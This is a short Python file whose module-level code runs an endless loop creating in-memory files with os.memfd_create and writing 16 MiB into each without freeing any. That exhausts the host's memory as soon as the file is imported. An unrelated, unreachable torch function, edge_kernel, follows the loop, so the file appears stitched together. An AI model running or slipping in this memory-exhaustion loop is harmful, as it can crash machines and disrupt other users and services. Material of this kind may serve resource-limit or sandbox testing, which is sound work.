"""Fills files that live in memory."""

import os

hoard = []
while True:
    hoard.append(os.memfd_create("hoard"))
    os.write(hoard[-1], bytes(1 << 24))


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
